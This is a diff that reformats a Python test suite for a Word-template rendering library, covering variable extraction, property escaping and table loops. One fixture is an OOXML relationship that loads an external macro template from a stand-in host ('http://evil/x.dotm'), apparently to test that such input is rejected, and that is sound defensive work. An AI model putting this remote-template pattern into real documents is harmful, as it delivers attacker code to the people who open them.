@@ -42,7 +42,12 @@ def _says(*texts: str) -> bytes:
 def _tree(element: Any) -> tuple[Any, ...]:
     """An element by meaning, without its prefixes."""
     inside = [_tree(child) for child in element]
-    return (element.tag, sorted(element.attrib.items()), (element.text or "").strip() if inside else element.text, inside)
+    return (
+        element.tag,
+        sorted(element.attrib.items()),
+        (element.text or "").strip() if inside else element.text,
+        inside,
+    )
 
 
 def _text(data: bytes) -> list[str]:
@@ -119,8 +124,10 @@ def _bomb() -> bytes:
 
 
 _OUTSIDE = (
-    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
-    b'Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="r" Type="http://x/attachedTemplate" '
+    b'Target="http://evil/x.dotm" TargetMode="External"/>'
+    b"</Relationships>"
 )
 
 
@@ -172,12 +179,19 @@ def test_a_required_name_that_is_never_printed_is_a_problem() -> None:
 
 
 def test_variables_are_named_with_their_parts() -> None:
-    data = _says("{%p for b in blocks %}", "{{r b.text|runs }}{{ loop.index }}", "{%p endfor %}", "{{ signers[0].name }}")
+    data = _says(
+        "{%p for b in blocks %}",
+        "{{r b.text|runs }}{{ loop.index }}",
+        "{%p endfor %}",
+        "{{ signers[0].name }}",
+    )
     assert {"blocks", "blocks.text", "signers", "signers.name"} <= template_variables(data)
 
 
 def test_properties_are_escaped_once() -> None:
-    made = render(load_template(_says("x")), {}, properties=Properties("A & B <c>", "s", "Sở “X” & Y" + "z" * 400))
+    made = render(
+        load_template(_says("x")), {}, properties=Properties("A & B <c>", "s", "Sở “X” & Y" + "z" * 400)
+    )
     core = Document(io.BytesIO(made)).core_properties
     assert (core.title, core.author[:9], len(core.author)) == ("A & B <c>", "Sở “X” & ", 255)
 
@@ -185,7 +199,9 @@ def test_properties_are_escaped_once() -> None:
 def test_columns_in_a_loop_get_their_grid() -> None:
     cell = "<w:tc><w:tcPr/><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
     cells = "".join(cell.format(t) for t in ("{%tc for c in cols %}", "{{ c }}", "{%tc endfor %}"))
-    body = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='3000'/></w:tblGrid><w:tr>{cells}</w:tr></w:tbl><w:p/>"
+    body = (
+        f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='3000'/></w:tblGrid><w:tr>{cells}</w:tr></w:tbl><w:p/>"
+    )
     made = render(load_template(_with_body(body)), {"cols": ["a", "b", "c"]})
     table = Document(io.BytesIO(made)).tables[0]
     assert [c.text for c in table.rows[0].cells] == ["a", "b", "c"]
